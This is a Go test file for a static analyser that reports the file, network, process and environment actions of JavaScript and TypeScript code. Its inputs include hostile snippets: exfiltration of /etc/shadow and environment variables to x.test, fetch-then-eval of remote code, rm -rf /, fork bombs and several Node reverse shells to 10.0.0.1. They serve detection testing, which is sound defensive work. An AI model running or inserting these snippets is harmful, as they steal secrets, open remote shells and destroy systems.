package javascript_test

import (
	"testing"

	"github.com/caisson-dev/caisson/policy/facts"
)

func TestFacts(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, code string
		want       []string
		never      []string
	}{
		{"read", `require('fs').readFileSync('/etc/passwd')`, []string{"file read /etc/passwd"}, nil},
		{"promises", `import {readFile} from 'fs/promises'; await readFile('/etc/passwd')`, []string{"file read /etc/passwd"}, nil},
		{"fs.promises", `const {promises: fs} = require('fs'); fs.unlink('/etc/passwd')`, []string{"file delete /etc/passwd"}, nil},
		{"fs-extra", `require('fs-extra').remove('/etc')`, []string{"file delete /etc"}, nil},
		{"join", `const p = require('path'); require('fs').rmSync(p.join('/', 'etc', '..', 'etc', 'ssh'), {recursive: true})`, []string{"file delete /etc/ssh"}, nil},
		{"resolve", `require('fs').readFileSync(require('path').resolve('a', '/etc', 'shadow'))`, []string{"file read /etc/shadow"}, nil},
		{"homedir", `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')`, []string{"file read /home/sandbox/.ssh/id_rsa"}, nil},
		{"dirname", `require('fs').readFileSync(__dirname + '/data.json')`, []string{"file read /workspace/data.json"}, nil},
		{"cwd", `require('fs').writeFileSync(process.cwd() + '/out', '')`, []string{"file write /workspace/out"}, nil},
		{"chdir", `process.chdir('/etc'); require('fs').unlinkSync('passwd')`, []string{"file delete /etc/passwd"}, nil},
		{"open", `require('fs').openSync('/etc/hosts', 'a')`, []string{"file append /etc/hosts"}, nil},
		{"stream", `require('fs').createWriteStream('/usr/bin/x')`, []string{"file write /usr/bin/x"}, nil},
		{"callback data", `require('fs').readFile('/etc/shadow', (e, d) => fetch('http://x.test', {method: 'POST', body: d}))`, []string{"net request x.test <- file:/etc/shadow"}, nil},
		{"awaited data", `const fs = require('fs').promises; const d = await fs.readFile('/etc/shadow', 'utf8'); await fetch('http://x.test', {body: JSON.stringify({d: d.trim()})})`, []string{"net request x.test <- file:/etc/shadow"}, nil},
		{"listed", `for (const f of ['/etc/passwd', '/etc/shadow']) require('fs').unlinkSync(f)`, []string{"file delete /etc/passwd", "file delete /etc/shadow"}, nil},
		{"either", `require('fs').unlinkSync(x ? '/etc/passwd' : '/tmp/x')`, []string{"file delete /etc/passwd", "file delete /tmp/x"}, nil},

		{"spawn", `require('child_process').spawn('rm', ['-rf', '/'])`, []string{"run rm -rf /", "file delete /"}, nil},
		{"spawn shell", `require('child_process').spawn('rm -rf /', {shell: true})`, []string{"run rm -rf /"}, nil},
		{"spawn named", `const a = ['-rf']; a.push('/'); require('child_process').spawnSync('rm', a)`, []string{"run rm -rf /"}, nil},
		{"execFile", `require('child_process').execFile('/bin/rm', ['-rf', '/'])`, []string{"run /bin/rm -rf /"}, nil},
		{"fork", `require('child_process').fork('/tmp/x.js')`, []string{"file exec /tmp/x.js"}, nil},
		{"execa", `import {execa} from 'execa'; await execa('rm', ['-rf', '/'])`, []string{"run rm -rf /"}, nil},
		{"Deno", `new Deno.Command('rm', {args: ['-rf', '/']})`, []string{"run rm -rf /"}, nil},
		{"Bun", `Bun.spawn(['rm', '-rf', '/'])`, []string{"run rm -rf /"}, nil},
		{"Bun shell", "await Bun.$`rm -rf /`", []string{"run rm -rf /"}, nil},

		{"fetch", `fetch('https://x.test/a')`, []string{"net request x.test"}, nil},
		{"fetch joined", `const h = 'x' + '.test'; fetch('https://' + h + '/a?' + q)`, []string{"net request x.test"}, nil},
		{"fetch URL", `fetch(new URL('/a', 'https://x.test'))`, []string{"net request x.test"}, nil},
		{"node-fetch", `const f = require('node-fetch'); f('http://x.test')`, []string{"net request x.test"}, nil},
		{"http options", `require('http').get({host: 'x.test', path: '/'})`, []string{"net request x.test"}, nil},
		{"https text", `require('https').get('https://x.test/')`, []string{"net request x.test"}, nil},
		{"http body", `const r = require('http').request({hostname: 'x.test', method: 'POST'}); r.write(require('fs').readFileSync('/etc/shadow')); r.end()`, []string{"net upload x.test <- file:/etc/shadow"}, nil},
		{"http end", `require('https').request('https://x.test').end(JSON.stringify(process.env))`, []string{"net upload x.test <- env", "env dump"}, nil},
		{"either module", `const m = s ? require('https') : require('http'); m.get('http://x.test')`, []string{"net request x.test"}, nil},
		{"axios", `require('axios').post('http://x.test', {d: process.env})`, []string{"net upload x.test <- env"}, nil},
		{"axios instance", `const a = require('axios').create(); a.get('http://x.test')`, []string{"net request x.test"}, nil},
		{"axios default", `import axios from 'axios'; axios({url: 'http://x.test', data: require('os').userInfo()})`, []string{"net request x.test"}, nil},
		{"socket", `const s = new (require('net').Socket)(); s.connect(4444, '10.0.0.1')`, []string{"net connect 10.0.0.1"}, nil},
		{"socket class", `const net = require('net'); const s = new net.Socket(); s.connect({port: 1, host: '10.0.0.1'})`, []string{"net connect 10.0.0.1"}, nil},
		{"tls", `require('tls').connect({host: 'x.test', port: 1})`, []string{"net connect x.test"}, nil},
		{"listen", `require('net').createServer(s => {}).listen(4444, '0.0.0.0')`, []string{"action listen"}, nil},
		{"http listen", `require('http').createServer((q, r) => r.end()).listen(80)`, []string{"action listen"}, nil},
		{"udp", `const d = require('dgram').createSocket('udp4'); d.send(Buffer.from('x'), 53, '8.8.8.8')`, []string{"net send_udp 8.8.8.8"}, nil},
		{"dns", `require('dns').lookup('x.test', () => {})`, []string{"net resolve x.test"}, nil},
		{"WebSocket", `new WebSocket('ws://x.test')`, []string{"net connect x.test"}, nil},
		{"ws", `const WS = require('ws'); new WS('ws://x.test')`, []string{"net connect x.test"}, nil},
		{"XHR", `const x = new XMLHttpRequest(); x.open('POST', 'http://x.test')`, []string{"net request x.test"}, nil},
		{"metadata", `fetch('http://169.254.169.254/latest/meta-data')`, []string{"net request 169.254.169.254"}, nil},

		{"piped to request", `require('fs').createReadStream('/etc/shadow').pipe(require('http').request({host: 'x.test', method: 'POST'}))`, []string{"net upload x.test <- file:/etc/shadow"}, nil},
		{"piped to file", `require('https').get('https://x.test/a', r => r.pipe(require('fs').createWriteStream('/tmp/x.sh')))`, []string{"net request x.test", "file write /tmp/x.sh <- net:x.test"}, nil},
		{"pipeline", `require('stream').pipeline(require('fs').createReadStream('/etc/shadow'), require('net').connect(1, 'x.test'), () => {})`, []string{"net upload x.test <- file:/etc/shadow"}, nil},
		{"received code", `require('https').get('https://x.test/a', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })`, []string{"dynamic opaque_code <- net:x.test"}, nil},
		{"fetched code", `fetch('https://x.test/a').then(r => r.text()).then(eval)`, []string{"dynamic opaque_code <- net:x.test"}, nil},
		{"served command", `require('http').createServer((q, r) => require('child_process').exec(q.url)).listen(1)`, []string{"dynamic opaque_code <- net"}, nil},

		{"env", `const {AWS_SECRET_ACCESS_KEY: k} = process.env; const t = process.env.TOKEN; process.env['A' + 'B']`, []string{"env read AWS_SECRET_ACCESS_KEY", "env read TOKEN", "env read AB"}, []string{"env dump"}},
		{"env dump", `console.log(process.env)`, []string{"env dump"}, nil},
		{"env entries", `for (const [k, v] of Object.entries(process.env)) {}`, []string{"env dump"}, nil},
		{"env keys", `for (const k in process.env) {}`, []string{"env dump"}, nil},
		{"env write", `process.env.LD_PRELOAD = '/tmp/x.so'`, []string{"env write LD_PRELOAD"}, nil},
		{"env sent", `fetch('http://x.test/?' + process.env.TOKEN)`, []string{"net request x.test <- env:TOKEN"}, nil},
		{"env passed on", `require('child_process').spawn('ls', [], {env: {...process.env, A: '1'}})`, []string{"run ls"}, []string{"env dump"}},

		{"kill", `process.kill(1, 'SIGKILL')`, []string{"action kill"}, nil},
		{"setuid", `process.setuid(0)`, []string{"action setuid"}, nil},
		{"recon", `const os = require('os'); os.userInfo(); os.hostname(); os.networkInterfaces()`, []string{"action users", "action host_info", "action network_info"}, nil},
		{"dlopen", `process.dlopen(module, '/tmp/x.node')`, []string{"action native_code"}, nil},
		{"wasm", `WebAssembly.instantiate(b)`, []string{"action bytecode"}, nil},

		{"fork bomb", `while (true) require('child_process').fork(__filename)`, []string{"struct fork_bomb"}, nil},
		{"cluster bomb", `const c = require('cluster'); for (;;) c.fork()`, []string{"struct fork_bomb"}, nil},
		{"self start", `require('child_process').spawn(process.argv[0], [__filename])`, []string{"struct fork_bomb"}, nil},
		{"recursive bomb", `function f() { require('child_process').spawn('x'); f() } f()`, []string{"struct fork_bomb"}, nil},
		{"loop that ends", `for (;;) { if (x()) break }`, nil, []string{"struct*"}},
		{"loop that waits", `async function f() { while (true) { await sleep(1) } }`, nil, []string{"struct*"}},
		{"loop that returns", `function f() { while (true) { if (g()) return } }`, nil, []string{"struct*"}},
		{"cluster", `const c = require('cluster'); if (c.isPrimary) { for (let i = 0; i < 4; i++) c.fork() }`, nil, []string{"struct*"}},

		{"reverse shell", `const s = require('net').connect(4444, '10.0.0.1'), p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s)`, []string{"struct recv_exec", "run /bin/sh", "net connect 10.0.0.1"}, nil},
		{"reverse shell class", `(function () { var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []); var client = new net.Socket(); client.connect(8080, '10.0.0.1', function () { client.pipe(sh.stdin); sh.stdout.pipe(client) }) })()`, []string{"struct recv_exec"}, nil},
		{"reverse shell stdio", `const s = require('net').connect(1, 'x.test'); require('child_process').spawn('sh', [], {stdio: [s, s, s]})`, []string{"struct recv_exec"}, nil},
		{"shell by data", `const s = require('net').connect(1, 'x.test'), p = require('child_process').spawn('sh'); s.on('data', d => p.stdin.write(d))`, []string{"struct recv_exec"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			check(t, facts.JavaScript, c.code, c.want, c.never)
		})
	}
}

// Names that are the program's own are not those of node.
func TestOwnNames(t *testing.T) {
	t.Parallel()
	for name, code := range map[string]string{
		"regexp":           `const m = /a/.exec('rm -rf /'); re.exec(s); new RegExp(x).exec(y)`,
		"database":         `const db = require('sql.js')('x.db'); db.exec('DROP TABLE t')`,
		"own exec":         `function exec(c) { return c } exec('rm -rf /')`,
		"own eval":         `const o = { eval(c) { return c } }; o.eval('x')`,
		"own Function":     `const Function = f => f; Function('x')`,
		"own require":      `(function (require) { require('x') })(n => n)`,
		"own spawn":        `class Game { spawn(e) {} } new Game().spawn('rm')`,
		"parameter":        `function run(exec) { exec('rm -rf /') }`,
		"parameter fetch":  `function get(fetch) { return fetch('/a') }`,
		"member of own":    `const api = { fetch(u) { return u } }; api.fetch('http://x.test')`,
		"text":             `const s = "require('child_process').exec('rm -rf /')"; console.log(s)`,
		"comment":          `// require('child_process').exec('rm -rf /')` + "\nlet a = 1",
		"template text":    "const s = `eval('1')`",
		"regexp literal":   `/eval\(/.test(src)`,
		"property":         `const o = { exec: 'rm -rf /', eval: 1 }`,
		"timer":            `setTimeout(() => {}, 10); setInterval(cb, 1); setTimeout(cb.bind(this), 1)`,
		"constructor":      `this.constructor(1); new this.constructor(2); x.constructor.name; err.constructor === Error`,
		"split":            `'a.b'.split('.').map(s => s.trim()).filter(Boolean)`,
		"dynamic property": `const h = {a() {}, b() {}}; h[k](); obj[method](x); window[k]; list[i](y)`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			check(t, facts.JavaScript, code, nil, []string{"run*", "dynamic*", "file*", "net*", "struct*", "action*"})
		})
	}
}

func TestTypeScript(t *testing.T) {
	t.Parallel()
	for name, code := range map[string]string{
		"types":        `import { execSync } from 'child_process'; const c: string = 'id'; execSync(c as string)`,
		"import =":     `import cp = require('child_process'); cp.execSync('id')`,
		"assertion":    `import * as cp from 'child_process'; cp.execSync(<string>'id')`,
		"non-null":     `import * as cp from 'child_process'; cp!.execSync!('id'!)`,
		"satisfies":    `require('child_process').execSync('id' satisfies string)`,
		"class":        `import { execSync } from 'child_process'; class A { private readonly c: string = 'id'; public go(): void { execSync(this.c) } } new A().go()`,
		"parameter":    `import { execSync } from 'child_process'; function f(c: string = 'id', ...rest: string[]): void { execSync(c) } f()`,
		"optional":     `import { execSync } from 'child_process'; function f(c?: string) { execSync(c!) } f('id')`,
		"enum":         `import { execSync } from 'child_process'; enum E { A = 'id' } execSync(E.A)`,
		"namespace":    `import { execSync } from 'child_process'; namespace N { execSync('id') }`,
		"generic":      `import { execSync } from 'child_process'; function f<T extends string>(c: T): T { return c } execSync(f<string>('id'))`,
		"type import":  `import type { X } from 'y'; import { type Z, execSync } from 'child_process'; execSync('id')`,
		"tsx":          `import { execSync } from 'child_process'; const e = <div onClick={() => execSync('id')}>x</div>;`,
		"arrow":        `import { execSync } from 'child_process'; const f = async <T,>(c: T): Promise<void> => { execSync(c as any) }; f('id')`,
		"abstract":     `import { execSync } from 'child_process'; abstract class A { abstract x(): void; go() { execSync('id') } }`,
		"declare":      `declare const y: string; import { execSync } from 'child_process'; execSync('id')`,
		"interface":    `interface I { exec(c: string): void } import { execSync } from 'child_process'; execSync('id')`,
		"this param":   `import { execSync } from 'child_process'; function f(this: any, c: string) { execSync(c) } f('id')`,
		"property":     `import { execSync } from 'child_process'; class A { constructor(private c: string) {} go() { execSync(this.c) } } new A('id').go()`,
		"decorators":   `import { execSync } from 'child_process'; @Injectable() class A { @Input() c = 'id'; go(@Inject() x: any) { execSync('id') } }`,
		"accessor":     `import { execSync } from 'child_process'; class A { get c(): string { return 'id' } go() { execSync(this.c) } } new A().go()`,
		"export =":     `import { execSync } from 'child_process'; export = execSync('id')`,
		"overload":     `import { execSync } from 'child_process'; function f(a: string): void; function f(a: any) { execSync(a) } f('id')`,
		"optional any": `const cp: any = require('child_process'); cp?.['execSync']?.('id')`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			check(t, facts.TypeScript, code, []string{"run id"}, nil)
		})
	}
}
